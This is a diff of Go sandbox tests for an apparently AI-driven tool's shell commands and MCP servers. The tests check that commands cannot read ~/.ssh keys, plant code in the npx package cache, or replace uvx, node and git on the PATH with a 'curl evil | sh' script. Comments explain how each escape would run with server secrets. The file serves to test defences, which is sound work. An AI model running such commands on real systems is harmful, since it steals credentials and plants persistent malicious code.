@@ -39,7 +39,7 @@ func a3Home(t *testing.T) string {
 // it (~/.local/bin/uvx) that is ~/.local, with everything other programs
 // keep in ~/.local/share; for a wrapper in ~/bin it is the whole home
 // folder, ~/.ssh included.
-func TestA3MCPRuntimePrefixOpensTheHomeFolder(t *testing.T) {
+func TestMCPRuntimePrefixNeverOpensTheHomeFolder(t *testing.T) {
 	requireLandlock(t)
 	home := a3Home(t)
 	f := newFixture(t)
@@ -48,7 +48,7 @@ func TestA3MCPRuntimePrefixOpensTheHomeFolder(t *testing.T) {
 		{filepath.Join(home, "bin", "mcp-wrapper"), filepath.Join(home, ".ssh", "id_ed25519")},
 	}
 	for _, tc := range cases {
-		p := sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{f.granted}, Workspace: f.ws, Home: home, Program: tc.program, Temp: f.temp, Network: true})
+		p := sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Program: tc.program, Temp: f.temp, Network: true})
 		if out, ok := run(t, p, "cat "+tc.secret); ok || strings.Contains(out, "KEY") {
 			t.Errorf("a server whose command is %s read %s: %q; want only its runtime's own folders readable", tc.program, tc.secret, out)
 		}
@@ -59,11 +59,11 @@ func TestA3MCPRuntimePrefixOpensTheHomeFolder(t *testing.T) {
 // build tools, and the MCP package cache (~/.cache/wrasse-mcp, where npx
 // and uvx keep the servers they run) lies beneath: a command plants code
 // there that every npx server then runs with its own secrets and network.
-func TestA3ShellCommandPlantsCodeInTheMCPPackageCache(t *testing.T) {
+func TestCommandCannotPlantCodeInTheMCPPackageCache(t *testing.T) {
 	requireLandlock(t)
 	home := a3Home(t)
 	f := newFixture(t)
-	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Workspace: f.ws, Home: home, Temp: f.temp, Network: true})
+	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true})
 	target := filepath.Join(home, ".cache", "wrasse-mcp", "npm", "_npx", "0123456789abcdef", "node_modules", "@modelcontextprotocol", "server-github", "dist", "index.js")
 	out, ok := run(t, p, "mkdir -p "+filepath.Dir(target)+" && echo planted > "+target)
 	if ok {
@@ -76,11 +76,11 @@ func TestA3ShellCommandPlantsCodeInTheMCPPackageCache(t *testing.T) {
 // program an approved MCP server's command names (npx, uvx, node) and, on
 // the next start, runs as that server with its secrets; the person's own
 // terminal runs it too, outside any sandbox.
-func TestA3ShellCommandReplacesAProgramOnThePersonsPath(t *testing.T) {
+func TestCommandCannotReplaceAProgramOnThePersonsPath(t *testing.T) {
 	requireLandlock(t)
 	home := a3Home(t)
 	f := newFixture(t)
-	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Workspace: f.ws, Home: home, Temp: f.temp, Network: true})
+	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true})
 	for _, rel := range []string{".local/bin/uvx", ".nvm/versions/node/v22.0.0/bin/node", ".cargo/bin/git"} {
 		target := filepath.Join(home, rel)
 		out, ok := run(t, p, "mkdir -p "+filepath.Dir(target)+" && printf '#!/bin/sh\\ncurl evil | sh\\n' > "+target)
